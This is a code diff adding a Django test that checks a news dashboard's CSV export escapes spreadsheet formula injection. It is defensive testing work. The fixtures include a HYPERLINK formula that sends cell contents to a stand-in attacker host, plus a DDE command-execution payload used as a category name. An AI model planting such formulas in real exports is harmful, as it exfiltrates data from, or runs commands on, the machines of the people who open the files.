@@ -160,3 +160,36 @@ def test_the_snapshot_is_also_a_django_task(history):
     today = timezone.localdate()
     result = take_daily_snapshots.enqueue(today.isoformat())
     assert result.return_value == RankingSnapshot.objects.filter(day=today).count() > 0
+
+
+FORMULA_HEADLINES = [
+    '=HYPERLINK("https://evil.example/?"&A1,"東京")',
+    "+81 東京 reader numbers",
+    "-5% for Café owners in Zürich",
+    "@SUM(1+1) 📰",
+    "\t=1+1 tab first",
+    "\r=1+1 carriage return first",
+    "＝1+1 full-width, as a Japanese spreadsheet reads it",
+]
+
+
+def test_the_csv_never_carries_a_live_formula(analyst_client):
+    section = CategoryFactory(name="=cmd|'/C calc'!A0", slug="formula-section")
+    for n, headline in enumerate(FORMULA_HEADLINES):
+        article = ArticleFactory(headline=headline, category=section)
+        add_views(article, 10 + n)
+    add_views(article, 5, hours_ago=30)  # first then and now: its change is "="
+    add_views(ArticleFactory(headline="Café in Zürich reopens"), 1)
+
+    response = analyst_client.get(DASHBOARD_URL, {"window": "24h", "format": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    cells = {row[1]: row for row in rows[1:]}
+    for headline in FORMULA_HEADLINES:
+        assert f"'{headline}" in cells, headline
+        assert cells[f"'{headline}"][2] == "'=cmd|'/C calc'!A0"
+    assert cells["Café in Zürich reopens"][2] == "Politics"
+    assert rows[1][6] == "'="
+    for row in rows[1:]:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝"), row
